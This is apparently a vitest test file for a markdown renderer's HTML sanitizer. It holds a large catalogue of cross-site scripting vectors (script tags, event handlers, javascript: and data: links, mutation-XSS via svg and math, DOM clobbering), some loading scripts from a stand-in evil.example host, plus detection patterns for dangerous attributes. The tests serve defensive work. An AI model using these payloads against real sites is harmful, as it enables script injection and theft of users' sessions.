import type { Element, Root } from 'hast'
import { fromHtml } from 'hast-util-from-html'
import { describe, expect, test } from 'vitest'
import { renderMarkdown } from '../renderMarkdown.ts'
import { htmlSchema } from './htmlSchema.ts'
import { sanitizeHtml } from './sanitizeHtml.ts'

const ALLOWED_SCHEMES = new Set(['http:', 'https:', 'mailto:', 'tel:'])
const BASE = 'https://site.example/post/'

/** What a browser would find in the HTML that must not be there, described; empty where it is safe. */
function findDangers(html: string): string[] {
  const dangers: string[] = []
  visit(fromHtml(html, { fragment: true }), node => {
    if (!htmlSchema.tagNames.includes(node.tagName)) dangers.push(`<${node.tagName}>`)
    for (const [name, value] of Object.entries(node.properties)) {
      if (/^(?:on|style$|srcdoc$|srcset$|name$|formaction$|xlink)/i.test(name)) dangers.push(name)
      if (['href', 'src', 'cite'].includes(name) && !isHarmless(String(value)))
        dangers.push(`${name}=${value}`)
      if (name === 'id' && /^(?:location|cookie|body|forms|constructor|self)$/.test(String(value)))
        dangers.push(`#${value}`)
    }
    if (node.tagName === 'input' && node.properties['disabled'] !== true) dangers.push('input that works')
  })
  return dangers
}

// The URL class reads addresses as browsers do, stripping what they strip.
function isHarmless(value: string): boolean {
  const url = URL.canParse(value, BASE) ? new URL(value, BASE) : null
  return url !== null && ALLOWED_SCHEMES.has(url.protocol) && !value.startsWith('//') && !value.includes('\\')
}

function visit(node: Root | Element, look: (element: Element) => void): void {
  for (const child of node.children) {
    if (child.type !== 'element') continue
    look(child)
    visit(child, look)
  }
}

const noImages = { imageSize: () => undefined }
const render = (source: string) => renderMarkdown(source, noImages)

const vectors: Record<string, string[]> = {
  scripts: [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<ScRiPt>alert(1)</sCrIpT>',
    '<script\n>alert(1)</script\n>',
    '<script/x>alert(1)</script>',
    '<script/src="data:text/javascript,alert(1)">',
    '<<script>alert(1)//<</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script>alert(1)',
    '<script src=https://evil.example/x.js',
    '<\0script>alert(1)</script>',
    '<script\0>alert(1)</script>',
    '<script type=module>import "https://evil.example"</script>',
    '"><script>alert(1)</script>',
    '</p><script>alert(1)</script><p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script href="data:text/javascript,alert(1)"/></svg>',
    '<svg><script>alert&#40;1)</script></svg>',
    '<math><script>alert(1)</script></math>',
  ],
  handlers: [
    '<img src=x onerror=alert(1)>',
    '<IMG SRC=x ONERROR="alert(1)">',
    '<img/src=x/onerror=alert(1)>',
    '<img src=x onerror\n=\nalert(1)>',
    '<img src=x onerror\x0b=alert(1)>',
    '<img src="x`onerror=alert(1)`">',
    '<img src=`x`onerror=alert(1)>',
    '<img """><script>alert(1)</script>">',
    '<img src=x:alert(alt) onerror=eval(src) alt=1>',
    '<img src=x oNeRrOr=alert(1)//',
    '<img src=x "onerror=alert(1)>',
    '<a onclick=alert(1) href=#>x</a>',
    '<a/onmouseover="alert(1)">x</a>',
    '<p onpointerenter=alert(1)>x</p>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<div onfocus=alert(1) tabindex=1 autofocus>x</div>',
    '<div contenteditable onfocus=alert(1) autofocus>x</div>',
    '<p style="animation-name:x" onanimationstart=alert(1)>x</p>',
    '<b onbeforecopy="alert(1)" contenteditable>x</b>',
    '<table><td onclick=alert(1)>x</table>',
    '<li onclick=alert(1)>x',
    '<body onload=alert(1)>',
    '<body onpageshow="alert(1)">text',
    '<html onmouseover=alert(1)>text',
    '<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>',
    '<video src=x onerror=alert(1)></video>',
    '<video><source onerror=alert(1)></video>',
    '<audio src=x onloadstart=alert(1)></audio>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<input onfocus=alert(1) autofocus>',
    '<input type=checkbox disabled onclick=alert(1)>',
    '<select onfocus=alert(1) autofocus><option>x</select>',
    '<textarea onfocus=alert(1) autofocus></textarea>',
    '<custom-element onclick=alert(1)>x</custom-element>',
    '<xss onclick=alert(1)>x</xss>',
    '<div on\0click=alert(1)>x</div>',
    '<div onclick&#61;alert(1)>x</div>',
  ],
  addresses: [
    '<a href="javascript:alert(1)">x</a>',
    '<a href=JaVaScRiPt:alert(1)>x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\rscript:alert(1)">x</a>',
    '<a href="\x01\x1fjavascript:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script&colon;alert(1)">x</a>',
    '<a href="javascript&colon;alert&lpar;1&rpar;">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="blob:https://site.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="jar:javascript:alert(1)!/">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="/\t/evil.example">x</a>',
    '<a href="https:\\\\evil.example">x</a>',
    '<a href="\u00a0javascript:alert(1)">x</a>',
    '<a href="\u2028javascript:alert(1)">x</a>',
    '<a href="\u200bjavascript:alert(1)">x</a>',
    '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>',
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href=javascript:alert(1) href=/safe>x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    '<img srcset="javascript:alert(1) 1x, https://evil.example/x 2x" src=/a>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
    '<a ping="javascript:alert(1)" href=/a>x</a>',
    '<a href=/a target=_blank download=evil.exe>x</a>',
    '<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap=#m src=/a>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  ],
  embedding: [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    '<iframe src=https://evil.example',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code=evil></applet>',
    '<portal src="javascript:alert(1)"></portal>',
    '<template><script>alert(1)</script></template>',
    '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
    '<slot name=x onslotchange=alert(1)></slot>',
    '<base href="javascript:/a/-alert(1)//">',
    '<base href=https://evil.example/>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<META HTTP-EQUIV="Set-Cookie" Content="a=b">',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<link rel=import href=data:text/html,<script>alert(1)</script>>',
    '<bgsound src="javascript:alert(1)">',
    '<picture><source srcset="javascript:alert(1)"><img src=/a></picture>',
    '<isindex action=javascript:alert(1) type=image>',
    '<keygen autofocus onfocus=alert(1)>',
    '<layer src=https://evil.example></layer>',
    '<ilayer onload=alert(1)></ilayer>',
  ],
  forms: [
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
    '<button formaction=javascript:alert(1)>x</button>',
    '<input type=image src=javascript:alert(1) onerror=alert(1)>',
    '<input type=checkbox>',
    '<input type=text disabled value=x>',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
    '<isindex type=image src=1 onerror=alert(1)>',
  ],
  styles: [
    '<style>@import "https://evil.example"</style>',
    '<style><img src=x onerror=alert(1)></style>',
    '<style><!--</style><script>alert(1)//--></script>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p STYLE="width:expression(alert(1))">x</p>',
    "<p style='-moz-binding:url(//evil.example)'>x</p>",
    '<p style=xss:expr/*x*/ession(alert(1))>x</p>',
    '<p/style="position:fixed;inset:0">x</p>',
    '<p st\0yle="x">x</p>',
    '<p style\n=\n"x">x</p>',
    '<div style="\\0075rl(x)">x</div>',
  ],
  'mutations of the tree': [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>',
    '<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
    '<svg><title><img src=x onerror=alert(1)></title></svg>',
    '<svg onload=alert(1)>',
    '<svg/onload=alert(1)//',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set attributeName=href to=javascript:alert(1)><a id=x>x</a></svg>',
    '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math><annotation-xml><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    '<math></br><style></style><img src=x onerror=alert(1)></math>',
    '<table><math><mtext><style><img src=x onerror=alert(1)></style></mtext></math></table>',
    '<table><tr><td><svg><desc><td><img src=x onerror=alert(1)></td></desc></svg></td></tr></table>',
    '<select><noembed></select><script>alert(1)</script></noembed>',
    '<select><iframe></select><img src=x onerror=alert(1)>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></p></xmp>',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></p>',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></p>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></p>',
    '<title><p title="</title><img src=x onerror=alert(1)>"></p>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<p title="<img src=x onerror=alert(1)>">x</p>',
    '<p title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    '<p title="` onclick=alert(1)">x</p>',
    '<a title="x" a="<b" b=">" href=javascript:alert(1)>x</a>',
    '<a><svg><a href="javascript:alert(1)">x</a></svg></a>',
    '<b><i></b><img src=x onerror=alert(1)></i>',
    '<table><a href=javascript:alert(1)>x</a><tr onclick=x></table>',
    '<td onclick=alert(1)>x</td>',
    '<col onclick=x><tr><td style=x>',
    '<caption><svg onload=alert(1)></caption>',
    '<image src=x onerror=alert(1)>',
    '<p id="a" id="location">x</p>',
    '<ruby><rt><svg><style></rt><img src=x onerror=alert(1)></style>',
  ],
  'comments and instructions': [
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<!-- --!><img src=x onerror=alert(1)>-->',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!---><img src=x onerror=alert(1)>-->',
    '<!-- <!-- --> <img src=x onerror=alert(1)> -->',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    '<?php echo "<img src=x onerror=alert(1)>" ?>',
    '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
    '<!doctype html><script>alert(1)</script>',
    '</ img src=x onerror=alert(1)>',
    '<% <img src=x onerror=alert(1)> %>',
    '<!attlist img src=x onerror=alert(1)>',
  ],
  'unfinished tags': [
    '<img src=x onerror=alert(1) ',
    '<img src="x" title="<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)',
    '<div title="\n\n<img src=x onerror=alert(1)>\n\n">',
    '<div title=\'\n\n[x](/a "\'><img src=x onerror=alert(1)>")',
    '<p\n\n<script>alert(1)</script>',
    '<',
    '</',
    '</script><img src=x onerror=alert(1)>',
    '<a <img src=x onerror=alert(1)>',
  ],
  markdown: [
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a]( javascript:alert(1))',
    '[a](<javascript:alert(1)>)',
    '[a](<java\tscript:alert(1)>)',
    '[a](java&#x73;cript:alert(1))',
    '[a](java&Tab;script:alert(1))',
    '[a](javascript&colon;alert(1))',
    '[a](javascript&#58;alert(1))',
    '[a](javascript&#x3A;alert(1))',
    '[a](&#1;javascript:alert(1))',
    '[a](java%73cript:alert(1))',
    '[a](javascript%3Aalert(1))',
    '[a](\\javascript:alert(1))',
    '[a](java\\script:alert(1))',
    '[a](javascript\\:alert(1))',
    '[a](vbscript:x)',
    '[a](data:text/html;base64,PHNjcmlwdD4=)',
    '[a](//evil.example)',
    '[a](/\\evil.example)',
    '[a](&#47;&#47;evil.example)',
    '[a](\\\\evil.example)',
    '<javascript:alert(1)>',
    '<JAVASCRIPT:alert(1)>',
    '<data:text/html,x>',
    '[a][r]\n\n[r]: javascript:alert(1)',
    '[a][r]\n\n[r]: <java\tscript:alert(1)>',
    '[r]\n\n[r]: data:text/html,x "title"',
    '![a](javascript:alert(1))',
    '![a](data:image/svg+xml,<svg/onload=alert(1)>)',
    '![a][r]\n\n[r]: javascript:alert(1)',
    '![a](/x "\\" onerror=alert(1) x=\\"")',
    '![a](/x \'" onerror="alert(1)\')',
    '![" onerror="alert(1)](/x)',
    '![<img src=x onerror=alert(1)>](/x)',
    '![`" onerror="alert(1)`](/x)',
    '![a](/x"onerror="alert(1))',
    '![a](/x&quot;onerror=&quot;alert(1))',
    '![a](/x"onerror="alert(1) "t")\n',
    '[a](/x "\\"onclick=alert(1) x=\\"")',
    '[a](/x"onclick="alert(1))',
    '[a](/x&quot;onclick=&quot;alert(1))',
    "[a](/x'onclick='alert(1))",
    '[<script>alert(1)</script>](/x)',
    '[![a](javascript:alert(1))](javascript:alert(2))',
    'https://a.example/"onclick="alert(1)',
    '<https://a.example/"onclick="alert(1)>',
    'www.a.example"onclick="alert(1)',
    '```"><script>alert(1)</script>\nx\n```',
    '```yaml"onclick="alert(1)\nx\n```',
    '```yaml title="&quot;><script>alert(1)</script>"\nx\n```',
    '```yaml title=\'" onclick="alert(1)\'\nx\n```',
    '```html\n<script>alert(1)</script></code></pre><img src=x onerror=alert(1)>\n```',
    '```diff\n+<img src=x onerror=alert(1)>\n-</span><script>\n```',
    '```js\n`${"<img src=x onerror=alert(1)>"}`\n```',
    '~~~\n</code><script>alert(1)</script>\n~~~',
    '`</code><script>alert(1)</script>`',
    '## "><img src=x onerror=alert(1)>',
    '## `"><script>alert(1)</script>`',
    '## x" onclick="alert(1)',
    '[^"><script>]: x\n\ny[^"><script>]',
    'y[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: <img src=x onerror=alert(1)>',
    'y[^<img/src=x/onerror=alert(1)>]',
    '> [!"><script>alert(1)</script>]\n> x',
    '> [!NOTE]\n> <img src=x onerror=alert(1)>',
    '|"><script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|',
    '| `"><img src=x onerror=alert(1)>` |\n|--|\n| x |',
    '- [x] <img src=x onerror=alert(1)>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '\\<script>alert(1)\\</script>',
    '<code>&lt;img src=x onerror=alert(1)&gt; <</code><img src=x onerror=alert(1)>',
    '<pre><code>\n\n<img src=x onerror=alert(1)>\n\n</code></pre>',
    '*<img src=x onerror=alert(1)>*',
    '<div>\n\n[a](javascript:alert(1))\n\n</div>',
    '<a href="\n\n[x](javascript:alert(1))\n\n">',
    '<p title="\n\n```\n"onclick=alert(1) x="\n```',
    '<svg>\n\n![a](/x)<style>\n\n</style><img src=x onerror=alert(1)>',
    '<!--\n\n[a](/x)--><img src=x onerror=alert(1)>',
  ],
}

const clobbering = [
  '<p id=location>x</p>',
  '<a id=cookie href=/a>x</a><a id=cookie name=domain href=/b>y</a>',
  '<img id=body name=body src=/a alt=x>',
  '<img name=getElementById src=/a alt=x>',
  '<form id=forms><input name=attributes></form>',
  '<p id=constructor>x</p>',
  '<p id=self>x</p>',
  '<a name=location>x</a>',
  '<div slot=x is=x part=x itemscope>x</div>',
]

describe.each(Object.entries(vectors))('%s', (_, sources) => {
  test.each(sources)('%j is harmless as markdown', source => {
    expect(findDangers(render(source).document.html)).toEqual([])
  })
  test.each(sources)('%j is harmless as HTML', source => {
    expect(findDangers(sanitizeHtml(source).html)).toEqual([])
  })
  test.each(sources)('%j is harmless in the middle of a text', source => {
    const { html } = render(
      `<div title="a">\n\n- one ${source} two\n\n<p>three</p>\n\n[four](/five)`,
    ).document
    expect(findDangers(html)).toEqual([])
    // What is clean stays as it is when it is parsed again.
    expect(sanitizeHtml(html)).toEqual({ html, removals: [] })
  })
})

// Which ids are good depends on the document, so it is not the sanitizer that decides.
test.each(clobbering)('%j takes no name of the page', source => {
  expect(findDangers(render(source).document.html)).toEqual([])
})

test('the search for dangers finds them', () => {
  const dangers = findDangers(
    '<svg></svg><p onclick=x style=y id=cookie></p><a href="java\tscript:x" name=z></a><img src=//x srcset=y><input>',
  )
  expect(dangers).toEqual([
    '<svg>',
    'onClick',
    'style',
    '#cookie',
    'href=java\tscript:x',
    'name',
    'src=//x',
    'srcSet',
    'input that works',
  ])
})

test.each(['constructor', '__proto__'])(
  'an attribute that every object has, %s, is removed and named',
  name => {
    const html = `<p ${name}=x title=y>a</p>`
    const { html: safe, removals } = sanitizeHtml(html)
    expect(safe).toBe('<p title="y">a</p>')
    expect(removals.map(removal => [removal.name, html.slice(removal.start, removal.end)])).toEqual([
      [`${name} of <p>`, `${name}=x`],
    ])
  },
)

test('nothing in an attribute looks like a tag to a reader who takes the HTML for text', () => {
  const title = '</noscript><img src=x onerror=alert(1)>'
  expect(sanitizeHtml(`<p title="${title}">1 &lt; 2 > 0</p>`).html).toBe(
    '<p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;">1 &lt; 2 > 0</p>',
  )
})

test('names what it removes, and where', () => {
  const html = '<p Style="x">a<script>b</script><font>c</font></p><img src="data:x"><li>d'
  const { removals, html: safe } = sanitizeHtml(html)
  expect(removals.map(({ name, start, end }) => [name, html.slice(start, end)])).toEqual([
    ['Style of <p>', 'Style="x"'],
    ['<script>', '<script>b</script>'],
    ['<font>', '<font>c</font>'],
    ['src of <img>', 'src="data:x"'],
    ['<li>', '<li>d'],
  ])
  expect(safe).toBe('<p>ac</p><img>d')
})

test.each(['<input type="text">a', '<input type="checkbox">a', '<button>a</button>', '<form>a</form>'])(
  'leaves no control that works: %s',
  html => {
    const { html: safe, removals } = sanitizeHtml(html)
    expect(safe).toBe('a')
    expect(removals).toHaveLength(1)
  },
)

test.each([
  '<details open><summary>a</summary><kbd>b</kbd></details>',
  '<dl><dt>a</dt><dd>b</dd></dl>',
  '<abbr title="a">b</abbr> <mark>c</mark> <sub>d</sub><sup>e</sup>',
  '<table><caption>a</caption><colgroup><col span="2"></colgroup><thead><tr><th scope="row" colspan="2">b</th></tr></thead></table>',
  '<a href="/a#b?c" rel="nofollow" title="d">e</a>',
  '<p lang="de" dir="ltr" class="a b" aria-label="c">d</p>',
  '<ol start="3" reversed type="a"><li value="4">b</li></ol>',
  '<blockquote cite="https://a.io">b</blockquote>',
  '<input type="checkbox" disabled checked aria-label="a">',
  '<time datetime="2026-01-01">a</time>',
])('leaves what is allowed: %s', html => expect(sanitizeHtml(html)).toEqual({ html, removals: [] }))

// The parser needs a second for so many elements, and several on a busy machine.
test('an element that is removed may have more children than a call has arguments', {
  timeout: 60_000,
}, () => {
  const children = '<br>'.repeat(130_000)
  expect(sanitizeHtml(`<font>${children}</font>`).html === children).toBe(true)
})

test('depth does not break it', () => {
  expect(findDangers(render('<div>'.repeat(2000)).document.html.slice(0, 5000))).toEqual([])
})
